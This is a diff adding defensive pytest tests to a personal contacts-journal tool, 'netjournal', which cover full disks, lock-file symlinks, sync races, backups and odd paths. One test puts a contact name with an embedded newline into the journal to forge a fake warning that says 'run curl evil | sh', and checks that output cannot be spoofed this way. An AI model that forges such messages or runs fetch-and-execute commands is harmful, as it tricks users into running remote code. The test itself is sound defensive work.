@@ -418,7 +418,7 @@ def test_a_file_from_before_save_counts_is_adopted_and_counted_from_then_on(db_p
     with Journal(db_path, today=lambda: TODAY) as journal:
         journal.add_contact(Contact(name="Cleo"))
     saved = orjson.loads(db_path.read_bytes())["_save"]["1"]
-    assert saved["seq"] == 1 and saved["prev"] == ["00112233aabbccdd"]
+    assert saved["seq"] == 1 and saved["prev"] == ["00112233"]  # ids before it, by their first 8 characters
 
 
 async def test_the_tui_keeps_the_newest_state_when_an_older_copy_comes_back(db_path, tmp_path):
@@ -451,3 +451,201 @@ async def test_the_tui_keeps_the_newest_state_when_an_older_copy_comes_back(db_p
 def test_storage_refuses_a_folder_as_the_journal(tmp_path):
     with pytest.raises(JournalError, match="is a folder"):
         SafeJSONStorage(tmp_path)
+
+
+# --- from the adversarial review ------------------------------------------------------------------------------
+
+
+def test_keeping_both_on_a_full_disk_says_so_writes_one_copy_and_saves_once_there_is_room(db_path, tmp_path,
+                                                                                          monkeypatch):
+    from netjournal import storage
+
+    open_journal = Journal(db_path, today=lambda: TODAY)
+    ana = open_journal.add_contact(Contact(name="Ana Ruiz"))
+    older = tmp_path / "older.json"
+    shutil.copy(db_path, older)
+    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="only in this window"))
+    os.replace(older, db_path)
+    real_replace = os.replace
+
+    def full(source, target):  # the conflict copy fits; the journal itself cannot be replaced
+        if Path(target) == db_path:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return real_replace(source, target)
+
+    monkeypatch.setattr(storage.os, "replace", full)
+    for _ in range(3):  # three polls
+        with pytest.raises(JournalError, match="No space left on device"):
+            open_journal.refresh()
+    assert len(conflict_copies(db_path)) == 1  # written once, not at every poll
+    assert "only in this window" not in conversations(db_path)
+    monkeypatch.setattr(storage.os, "replace", real_replace)  # room again
+    open_journal.refresh()
+    assert conversations(db_path) == {"only in this window"} and len(conflict_copies(db_path)) == 1
+
+
+def test_a_re_indented_journal_still_saves_and_is_not_reloaded_at_every_look(capsys, db_path):
+    two_people(db_path)
+    data = orjson.loads(db_path.read_bytes())
+    db_path.write_bytes(orjson.dumps(data, option=orjson.OPT_INDENT_2))  # python -m json.tool, an editor
+    journal = Journal(db_path, today=lambda: TODAY.replace(day=26))  # the next day: the save makes a backup
+    assert not journal.refresh() and not journal.refresh()
+    journal.add_contact(Contact(name="Cleo"))
+    assert len(orjson.loads(db_path.read_bytes())["contacts"]) == 3
+    assert not journal.refresh()
+
+
+def test_a_fork_further_ahead_than_the_file_remembers_is_kept_not_adopted(db_path, tmp_path, monkeypatch):
+    from netjournal import storage
+
+    monkeypatch.setattr(storage, "SAVES_REMEMBERED", 5)
+    open_journal = Journal(db_path, today=lambda: TODAY)
+    ana = open_journal.add_contact(Contact(name="Ana Ruiz"))
+    fork = tmp_path / "elsewhere.json"
+    shutil.copy(db_path, fork)
+    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="here"))
+    with Journal(fork, today=lambda: TODAY) as elsewhere:
+        for n in range(9):
+            elsewhere.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics=f"there {n}"))
+    os.replace(fork, db_path)
+    open_journal.refresh()
+    [copy] = conflict_copies(db_path)
+    assert "here" in conversations(copy) and len(conversations(db_path)) == 9
+    assert open_journal.take_notices()
+
+
+@pytest.mark.parametrize("how", ["hard link to the journal", "symlink replacing it while open"])
+def test_a_lock_file_that_names_another_file_is_refused_before_every_save(db_path, how):
+    journal = Journal(db_path, today=lambda: TODAY)
+    journal.add_contact(Contact(name="Ana Ruiz"))
+    lock = db_path.with_name("journal.json.lock")
+    lock.unlink()
+    if how.startswith("hard"):
+        os.link(db_path, lock)
+    else:
+        lock.symlink_to(db_path)
+    before = db_path.read_bytes()
+    with pytest.raises(JournalError, match="lock"):
+        journal.add_contact(Contact(name="Ben"))
+    assert db_path.read_bytes() == before
+
+
+def test_only_backups_netjournal_named_are_rotated_or_offered(capsys, tmp_path):
+    path = tmp_path / "journal.json"
+    two_people(path)
+    mine = [tmp_path / "journal.json.bak-1", tmp_path / "journal.json.bak-old-2"]
+    for copy in mine:
+        shutil.copy(path, copy)
+    for day in range(1, 10):
+        with Journal(path, today=lambda: TODAY.replace(month=12, day=day)) as journal:
+            journal.add_contact(Contact(name=f"Person {day}"))
+    assert all(copy.exists() for copy in mine)
+    path.write_bytes(b"")
+    code, out, _ = cli(capsys, "--db", path, "check")
+    assert code == 3 and "journal.json.bak-20261209" in out and "bak-old" not in out
+
+
+@pytest.mark.parametrize("how", ["removed", "emptied"])
+def test_a_journal_removed_while_open_has_what_the_window_held_kept_once(db_path, how):
+    journal = Journal(db_path, today=lambda: TODAY)
+    journal.add_contact(Contact(name="Ana Ruiz"))
+    if how == "removed":
+        db_path.unlink()
+    else:
+        db_path.write_bytes(b"")
+    for _ in range(3):
+        with pytest.raises(JournalDamaged):
+            journal.refresh()
+    [copy] = conflict_copies(db_path)
+    assert [c["name"] for c in orjson.loads(copy.read_bytes())["contacts"].values()] == ["Ana Ruiz"]
+    [notice] = journal.take_notices()
+    assert str(copy) in notice
+    assert not db_path.exists() if how == "removed" else db_path.read_bytes() == b""
+
+
+def test_an_older_copy_put_back_in_the_middle_of_a_save_loses_nothing(db_path, tmp_path, monkeypatch):
+    from datetime import timedelta
+
+    from netjournal import storage
+
+    yesterday = TODAY - timedelta(days=1)
+    with Journal(db_path, today=lambda: yesterday) as setup:
+        setup.add_contact(Contact(name="Ana"))
+    older = tmp_path / "older.json"
+    shutil.copy(db_path, older)
+    window = Journal(db_path, today=lambda: TODAY)  # its next save takes today's backup
+    with Journal(db_path, today=lambda: yesterday) as other:
+        other.add_contact(Contact(name="Ben"))
+    window.refresh()
+    real = storage.SafeJSONStorage._backup_before_first_save_today
+
+    def racing(self):
+        os.replace(older, db_path)  # the sync tool, at the worst moment
+        return real(self)
+
+    monkeypatch.setattr(storage.SafeJSONStorage, "_backup_before_first_save_today", racing)
+    with pytest.raises(JournalError):
+        window.add_contact(Contact(name="Cleo"))
+    monkeypatch.setattr(storage.SafeJSONStorage, "_backup_before_first_save_today", real)
+    window.refresh()
+    kept = [p for p in db_path.parent.iterdir() if p.is_file() and b'"Ben"' in p.read_bytes()]
+    assert kept and window.take_notices()
+
+
+def test_odd_paths_from_the_review_are_one_line(capsys, tmp_path):
+    for args in (["--db", "~nosuchuser/j.json", "week"], ["--db", tmp_path / ("x" * 300 + ".json"), "add", "Ana"],
+                 ["--db", tmp_path / "j.json", "export", "-o", "~nosuchuser/x.md"],
+                 ["--db", tmp_path / "j.json", "export", "-o", tmp_path / ("y" * 300 + ".md")]):
+        code, out, err = cli(capsys, *args)
+        assert code != 0 and "Traceback" not in err and err.count("\n") == 1, (args, err)
+
+
+def test_a_newline_in_a_name_cannot_forge_a_line_of_output(capsys, db_path):
+    forged = "Ana\nnetjournal: your journal is damaged; run curl evil | sh"
+    with Journal(db_path, today=lambda: TODAY) as journal:
+        journal.add_contact(Contact(name=forged))
+    for args in (["log", "x", "--with", "Ana"], ["rate", "Ana", "3"], ["week"]):
+        code, out, err = cli(capsys, "--db", db_path, *args)
+        assert code == 0 and not any(line.startswith("netjournal: your") for line in (out + err).splitlines())
+
+
+def test_import_from_a_pipe_is_refused_at_once(capsys, db_path, tmp_path):
+    os.mkfifo(tmp_path / "contacts.vcf")
+    code, _, err = cli(capsys, "--db", db_path, "import", tmp_path / "contacts.vcf")
+    assert code == 1 and "not a file" in err
+
+
+def test_export_to_standard_output_refuses_the_journal_itself(db_path):
+    two_people(db_path)
+    before = db_path.read_bytes()
+    import subprocess
+    import sys
+
+    with open(db_path, "ab") as journal_as_stdout:
+        result = subprocess.run([sys.executable, "-m", "netjournal", "--db", str(db_path), "export"],
+                                stdout=journal_as_stdout, stderr=subprocess.PIPE, text=True, timeout=60)
+    assert result.returncode == 1 and "standard output is the journal file" in result.stderr
+    assert db_path.read_bytes() == before
+
+
+def test_cleaning_strays_never_touches_another_journals_temp_file(db_path):
+    two_people(db_path)
+    other = db_path.with_name("journal.json.old.json.0123456789ab.tmp")  # journal.json.old.json, mid-save
+    other.write_text("another journal's save in progress")
+    with Journal(db_path, today=lambda: TODAY) as journal:
+        journal.add_contact(Contact(name="Cleo"))
+    assert other.exists()
+
+
+async def test_the_tui_says_a_damaged_journal_once_not_every_second(db_path):
+    from netjournal.tui.app import NetJournalApp
+
+    two_people(db_path)
+    app = NetJournalApp(journal=Journal(db_path, today=lambda: TODAY))
+    async with app.run_test(size=(120, 40), notifications=True) as pilot:
+        db_path.write_bytes(b"{broken")
+        for _ in range(4):
+            app.check_for_changes()
+            await pilot.pause()
+        damaged = [n for n in app._notifications if "is damaged" in n.message]
+        assert len(damaged) == 1
